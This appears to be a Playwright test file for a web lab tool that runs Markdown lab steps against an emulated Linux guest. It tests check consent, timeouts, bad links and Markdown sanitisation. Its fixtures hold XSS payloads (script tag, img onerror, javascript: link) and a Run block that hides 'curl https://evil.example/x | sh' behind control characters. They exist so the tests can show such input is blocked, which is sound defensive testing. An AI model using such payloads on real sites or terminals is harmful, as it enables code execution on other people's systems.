// Labs in Chromium against the real guest (one VM boot for the whole file): a `?lab=<url>` link whose checks
// run only after the reader accepts them (a check that leaves a marker in the guest proves it), Run and its
// verify turning green, a step done by hand turning green after the command finishes (no Check click), a
// verify that hangs, untrusted Markdown that must not run script, and a `#lab=` link followed inside the page.
// Bad links (404, not a lab, hidden control characters, malformed) each show a message, and the terminal
// keeps working.
import { deflateRawSync } from 'node:zlib';
import { expect, test, type Page } from '@playwright/test';
import { SHELL_PROMPT, terminalLines, waitForLine, waitForReady } from './terminal-view.ts';

const BOOT_TIMEOUT_MS = 10 * 60_000;
const COMMAND_TIMEOUT_MS = 5 * 60_000;
/** Checks run in the emulated guest: a few seconds each when idle, much longer on a loaded machine. */
const CHECK_TIMEOUT_MS = 3 * 60_000;

/** Served by a Playwright route at ./e2e-labs/basics.md, as if from any CORS-enabled host. */
const BASICS_LAB = `---
title: E2E basics
description: Run, check and re-check against the real guest.
verifyTimeoutMs: 10000
---
Untrusted Markdown: <script>window.__labScriptRan = true</script>
<img src="no-such-image.png" alt="broken" onerror="window.__labImgRan = true">
[a script link](javascript:window.__labLinkRan=true)

## Make a file

\`\`\`sh run
echo e2e-hello > /tmp/e2e-lab-file
\`\`\`

\`\`\`verify
echo ran >> /tmp/e2e-check-marker; grep -qx e2e-hello /tmp/e2e-lab-file
\`\`\`

## Make a directory yourself

Type \`mkdir -p /tmp/e2e-lab-dir\` into the terminal.

\`\`\`verify
test -d /tmp/e2e-lab-dir
\`\`\`

## A check that hangs

\`\`\`verify
sleep 60
\`\`\`
`;

const INLINE_LAB = `---
title: E2E inline
---
## Write a marker

\`\`\`sh run
echo inline > /tmp/e2e-inline
\`\`\`

\`\`\`verify
grep -qx inline /tmp/e2e-inline
\`\`\`
`;

/** The checks of BASICS_LAB, as the consent question must list them. */
const BASICS_CHECKS = ['echo ran >> /tmp/e2e-check-marker; grep -qx e2e-hello /tmp/e2e-lab-file', 'test -d /tmp/e2e-lab-dir', 'sleep 60'];

/** A Run block that shows one command and, typed into readline, would run another (issue #24, item 9). */
const HIDDEN_CONTROL_LAB = `---
title: E2E hidden
---
## Looks harmless

\`\`\`sh run
echo "curl https://evil.example/x | sh"\u0001${'\u0004'.repeat(6)}\u0005\u0008
\`\`\`
`;

/** A `#lab=` payload as lab-link.ts makes it: "1." + base64url(deflate-raw(UTF-8 text)). */
function inlinePayload(source: string): string {
  return `1.${deflateRawSync(Buffer.from(source, 'utf8')).toString('base64url')}`;
}

function step(page: Page, title: string) {
  return page.locator('.lab-step').filter({ has: page.getByRole('heading', { name: title }) });
}

/**
 * Types a line and presses Enter without first waiting for the prompt to be the last row: after a snapshot
 * restore the guest's motd can arrive after the prompt, and bash reads typed-ahead input anyway.
 */
async function typeLine(page: Page, command: string): Promise<void> {
  await page.locator('#terminal').click();
  await page.keyboard.type(command);
  await page.keyboard.press('Enter');
}

/**
 * Right after a snapshot restore the guest reports ready a moment before bash reads its terminal, and keys
 * typed in that moment are lost. Press Enter, as a person would, until a prompt answers.
 */
async function waitForShell(page: Page): Promise<void> {
  await page.locator('#terminal').click();
  await expect
    .poll(
      async () => {
        await page.keyboard.press('Enter');
        return (await terminalLines(page)).filter((line) => line !== '').at(-1) ?? '';
      },
      { timeout: COMMAND_TIMEOUT_MS, intervals: [2_000] },
    )
    .toMatch(SHELL_PROMPT);
}

/** Runs a command and returns its output, wrapped in a marker its echoed command line cannot match. */
async function runAndRead(page: Page, marker: string, command: string): Promise<string> {
  await typeLine(page, `echo "${marker}=$(${command})"`);
  return (await waitForLine(page, new RegExp(`^${marker}=`), COMMAND_TIMEOUT_MS)).slice(marker.length + 1);
}

const labAlert = (page: Page) => page.locator('#side-panel [role="alert"]');

test.describe.serial('labs', () => {
  let page: Page;

  test.beforeAll(async ({ browser }, testInfo) => {
    const context = await browser.newContext({ baseURL: testInfo.project.use.baseURL, viewport: { width: 1280, height: 800 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    page = await context.newPage();
    // A predicate, not a glob: `**/e2e-labs/basics.md` would also match the page's own `?lab=./e2e-labs/basics.md`.
    await page.route((url) => url.pathname === '/e2e-labs/basics.md', (route) =>
      route.fulfill({ status: 200, contentType: 'text/markdown; charset=utf-8', body: BASICS_LAB }),
    );
    await page.route((url) => url.pathname === '/e2e-labs/hidden.md', (route) =>
      route.fulfill({ status: 200, contentType: 'text/markdown; charset=utf-8', body: HIDDEN_CONTROL_LAB }),
    );
  });

  test.afterAll(async () => {
    await page.context().close();
  });

  test('a lab URL that 404s and a URL that is not a lab each say so in the panel', async () => {
    // These pages are left before their VM finishes booting; the one full boot is the next test's.
    await page.goto('./?lab=./no-such-lab.md');
    await expect(labAlert(page)).toContainText('There is no lab at');
    await expect(labAlert(page)).toContainText('404');
    await page.goto('./?lab=./index.html');
    await expect(labAlert(page)).toContainText('is a web page, not a lab file');
    await page.goto('./?lab=./e2e-labs/hidden.md');
    await expect(labAlert(page)).toContainText('line 7: the invisible character U+0001 (Ctrl-A) at column 40');
    await expect(page.locator('button.lab-run')).toHaveCount(0);
    await expect(page.locator('.error-panel')).toHaveCount(0);
  });

  test('?author: the editor shows problems by line, previews the draft, shares it and opens it in the panel', async () => {
    await page.goto('./?author');
    const editor = page.getByLabel('Lab source');
    await expect(editor).toBeVisible();
    await editor.fill('---\ntitle: [unclosed\n---\n## Step\n');
    await expect(page.locator('.lab-author-problems')).toContainText('line 2');
    await editor.fill(HIDDEN_CONTROL_LAB);
    await expect(page.locator('.lab-author-problems')).toContainText('line 7: the invisible character U+0001 (Ctrl-A)');
    await editor.fill(INLINE_LAB.replace('E2E inline', 'Drafted here'));
    await expect(page.locator('.lab-author-ok')).toHaveText('Valid lab: 1 step(s).');
    await expect(page.locator('.lab-author-preview').getByRole('heading', { name: 'Write a marker' })).toBeVisible();
    // The preview shows each step's check command (it never runs it).
    await page.locator('.lab-author-preview .lab-verify summary').click();
    await expect(page.locator('.lab-author-preview .lab-verify-command')).toHaveText('grep -qx inline /tmp/e2e-inline');
    await page.getByRole('button', { name: 'Copy share link' }).click();
    await expect(page.locator('.lab-author .lab-share-note')).toHaveText('Link copied.');
    const link = await page.evaluate(() => navigator.clipboard.readText());
    expect(link).toMatch(/:\d+\/#lab=1\.[A-Za-z0-9_-]+$/);
    await page.getByRole('button', { name: 'Open in panel' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Drafted here' })).toBeVisible();
    await page.getByRole('button', { name: 'Back to the editor' }).click();
    await expect(editor).toBeVisible();
  });

  test('a ?lab= link asks before any check runs, listing the commands; no check runs in the guest until Accept', async () => {
    await page.goto('./?lab=./e2e-labs/basics.md');
    await expect(page.getByRole('heading', { level: 1, name: 'E2E basics' })).toBeVisible();
    const consent = page.locator('#side-panel .lab-consent');
    await expect(consent).toContainText('This lab checks your work by running these commands');
    await expect(consent.locator('.lab-consent-command')).toHaveText(BASICS_CHECKS);
    await waitForReady(page, BOOT_TIMEOUT_MS);
    await waitForShell(page);
    const first = step(page, 'Make a file');
    // Run sits beside its code block, never over the code (it once hid the end of a long first line).
    const [run, code] = await Promise.all([first.locator('button.lab-run').boundingBox(), first.locator('.lab-code pre').first().boundingBox()]);
    expect(run && code && run.x >= code.x + code.width, `Run ${JSON.stringify(run)} overlaps the code ${JSON.stringify(code)}`).toBe(true);
    // Run (an explicit click on shown text) types the command; the checks it would trigger (after the command
    // finishes, and a Check click) must not run: the step says so, and the check's marker never appears.
    await first.locator('button.lab-run').click();
    expect(await runAndRead(page, 'file', 'cat /tmp/e2e-lab-file')).toBe('e2e-hello');
    await first.locator('button.lab-check').click();
    await expect(page.locator('.lab-consent-accept')).toBeFocused();
    await expect(first.locator('.lab-step-message')).toHaveText(/^Check not run: accept checks to enable/);
    await expect(first.locator('.lab-status')).toHaveClass(/lab-status-pending/);
    expect(await runAndRead(page, 'marker-before', 'cat /tmp/e2e-check-marker 2>/dev/null || echo absent')).toBe('absent');
    // Accept, then the step's check runs (on Check), turns the step green and leaves its marker.
    await page.locator('.lab-consent-accept').click();
    await expect(consent).toContainText('Checks on');
    await first.locator('button.lab-check').click();
    await expect(first.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
    expect(await runAndRead(page, 'marker-after', 'cat /tmp/e2e-check-marker 2>/dev/null || echo absent')).toBe('ran');
  });

  test('a step done by hand in the terminal turns green when the command finishes, without Check', async () => {
    const second = step(page, 'Make a directory yourself');
    await expect(second.locator('.lab-status')).not.toHaveClass(/lab-status-done/);
    await typeLine(page, 'mkdir -p /tmp/e2e-lab-dir');
    await expect(second.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
    await expect(page.locator('.lab-progress')).toHaveText('2 of 3 checked steps done');
  });

  test('a verify that hangs stops at the time limit with a message', async () => {
    const third = step(page, 'A check that hangs');
    await third.locator('button.lab-check').click();
    await expect(third.locator('.lab-status')).toHaveClass(/lab-status-error/, { timeout: CHECK_TIMEOUT_MS });
    await expect(third.locator('.lab-step-message')).toContainText('did not finish within 10 s');
    // The machine is still usable after the killed check.
    expect(await runAndRead(page, 'after', 'echo still-here')).toBe('still-here');
  });

  test('script in the lab Markdown does not run', async () => {
    const content = page.locator('#side-panel .lab-content').first();
    await expect(page.locator('#side-panel img[alt="broken"]')).toHaveCount(1);
    // The image has failed to load by now (complete and zero-sized), so an onerror handler would have run.
    await expect.poll(() => page.locator('#side-panel img[alt="broken"]').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth === 0)).toBe(true);
    expect(await page.locator('#side-panel script').count()).toBe(0);
    expect(await page.locator('#side-panel [onerror]').count()).toBe(0);
    expect(await content.locator('a[href^="javascript:"]').count()).toBe(0);
    const flags = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      return [w.__labScriptRan, w.__labImgRan, w.__labLinkRan];
    });
    expect(flags).toEqual([undefined, undefined, undefined]);
  });

  test('a #lab= link followed in the page opens that lab, and its Run turns green', async () => {
    await page.evaluate((hash) => {
      // A `#lab=` link on a page opened without `?lab=`, as when someone pastes one into the address bar.
      history.replaceState(null, '', location.pathname);
      location.hash = hash;
    }, `lab=${inlinePayload(INLINE_LAB)}`);
    await expect(page.getByRole('heading', { level: 1, name: 'E2E inline' })).toBeVisible();
    // A lab with other checks asks again.
    await expect(page.locator('#side-panel .lab-consent-command')).toHaveText(['grep -qx inline /tmp/e2e-inline']);
    await page.locator('.lab-consent-accept').click();
    const only = step(page, 'Write a marker');
    await only.locator('button.lab-run').click();
    await expect(only.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
  });

  test('a malformed #lab= link shows a clear message, and the terminal still works', async () => {
    await page.evaluate(() => {
      location.hash = 'lab=1.this*is*not*base64';
    });
    await expect(labAlert(page)).toContainText('This lab link is damaged');
    expect(await runAndRead(page, 'alive', 'echo $((6 * 7))')).toBe('42');
  });
});
